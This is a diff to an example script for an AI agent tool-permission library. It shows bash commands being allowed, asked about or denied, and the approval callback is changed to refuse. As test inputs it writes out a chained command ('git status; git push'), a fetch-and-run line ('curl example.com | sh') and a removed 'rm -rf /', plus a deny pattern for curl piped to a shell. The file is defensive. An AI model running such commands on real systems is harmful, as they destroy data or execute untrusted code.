@@ -2,16 +2,17 @@
 
 Prints:
 
-    asked about: git push
+    asked about: git status; git push
     git status: ran
-    git push: ran
-    rm -rf /: Only git may run.
+    git status; git push: Not today.
+    curl example.com | sh: Nothing from the network is run.
     notes.txt: deleted
 """
 
 from toolkit import (
     ApprovalRequest,
     AssistantMessage,
+    Deny,
     Permissions,
     ToolCall,
     ToolLoopConfig,
@@ -23,6 +24,7 @@ from toolkit import (
     tool,
     tool_loop_sync,
 )
+from toolkit.builtin import runs_only
 from toolkit.testing import ScriptedProvider
 
 
@@ -38,23 +40,26 @@ def delete_note(name: str) -> str:
     return f"{name}: deleted"
 
 
+# A text pattern such as "git *" would let "git status; git push" pass: `runs_only` reads the command as the shell does,
+# and says yes only to what is proved plain. The denial is a guard against mistakes, not against intent.
 permissions = Permissions(
     [
-        ask("bash", args={"command": "git push*"}, reason="It leaves this machine."),
-        allow("bash", args={"command": "git *"}),
-        deny("bash", args={"command": lambda command: not str(command).startswith("git ")}, reason="Only git may run."),
+        allow("bash", args={"command": runs_only("git status", "git diff")}),
+        ask("bash", reason="It is not plainly on the list."),
+        deny("bash", args={"command": "*curl*|*sh*"}, reason="Nothing from the network is run."),
     ]
 )
 
 
-def approve(request: ApprovalRequest) -> bool:
-    """Say yes to what is asked about."""
+def approve(request: ApprovalRequest) -> bool | Deny:
+    """Say no to what is asked about."""
     if request.reason:
         print("asked about:", request.arguments["command"])
+        return Deny("Not today.")
     return True
 
 
-commands = ["git status", "git push", "rm -rf /"]
+commands = ["git status", "git status; git push", "curl example.com | sh"]
 wanted = [ToolCall(f"c{number}", "bash", f'{{"command": "{text}"}}') for number, text in enumerate(commands)]
 provider = ScriptedProvider(
     [AssistantMessage([*wanted, ToolCall("d", "delete_note", '{"name": "notes.txt"}')]), "Done."]
